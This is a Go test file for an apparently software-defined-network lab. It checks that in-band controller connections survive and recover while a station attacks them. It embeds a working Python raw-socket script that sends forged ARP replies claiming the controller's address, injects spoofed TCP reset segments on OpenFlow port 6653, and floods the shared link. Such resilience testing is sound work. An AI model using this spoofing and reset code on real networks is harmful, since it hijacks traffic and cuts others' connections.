package test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// forger says without end, from a station of a switch, that it has the address of the
// controller, sends segments of control in the name of the other switch, and between
// them as much as it can to the other station, over the link that control shares.
const forger = `
import fcntl, socket, struct
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
name = [n for _, n in socket.if_nameindex() if n != "lo"][0]
s.bind((name, 0))
mac = s.getsockname()[4]
ctl, b = [socket.inet_aton(socket.gethostbyname(n)) for n in ("ctl", "b")]
claim = b"\xff" * 6 + mac + struct.pack("!HHHBBH", 0x806, 1, 0x800, 6, 4, 2) + mac + ctl + b"\xff" * 6 + b
def tcp(src, dst, sport, dport, flags):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, src, dst)
    return b"\xff" * 6 + mac + b"\x08\x00" + h + struct.pack("!HHIIBBHHH", sport, dport, 1, 1, 0x50, flags, 100, 0, 0)
forged = [claim] + [tcp(x, y, p, q, 4) for x, y, p, q in ((ctl, b, 6653, 40000), (b, ctl, 40000, 6653))]
data = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data.connect(("b", 9))
print("forging", flush=True)
n = 0
while True:
    n += 1
    try:
        if n % 20 == 0:
            for f in forged: s.send(f)
        data.send(b"x" * 1200)
    except OSError: pass
`

// A station that floods the link which control shares, and makes up control, neither
// cuts the switches' connections nor keeps one from joining again.
//
//	h1:  a - s1 - s2 - b  :h2
//	         |
//	        ctl
func TestControlInBandIsNeitherForgedNorStarved(t *testing.T) {
	t.Parallel()
	l := newLab(t, "demo")
	l.up(inBand(t))
	eventually(t, 30*time.Second, func() error { return l.crosses("band/a", "b") })
	connections := func() (string, error) {
		r := l.sublet("exec", "band/ctl", "--", "sh", "-c", "ss -Htn state established sport = :6653 | awk '{print $4}' | sort")
		if n := len(strings.Fields(r.out)); n != 2 {
			return "", fmt.Errorf("%d connections to the controller: %s%s", n, r.out, r.err)
		}
		return r.out, nil
	}
	var before string
	eventually(t, 30*time.Second, func() (err error) { before, err = connections(); return err })
	l.must("exec", "band/a", "-d", "--", "python3", "-c", forger)
	eventually(t, 30*time.Second, func() error {
		if out := l.must("logs", "band/a"); !strings.Contains(out, "forging") {
			return fmt.Errorf("it does not forge: %s", out)
		}
		return nil
	})
	time.Sleep(3 * time.Second) // of it
	if now, err := connections(); err != nil || now != before {
		t.Errorf("connections were %q, and are %q (%v) beside one that forges", before, now, err)
	}
	pid := l.openFlowProcess("h2") // whose control goes over the link that is flooded
	if err := unix.Kill(pid, unix.SIGKILL); err != nil {
		t.Fatal(err)
	}
	eventually(t, time.Minute, func() error {
		if now := l.openFlowProcess("h2"); now == 0 || now == pid {
			return fmt.Errorf("process %d, which was killed", now)
		}
		if now, err := connections(); err != nil || now == before {
			return fmt.Errorf("connections are %q: %v", now, err)
		}
		return nil
	})
	l.must("down", "band")
}
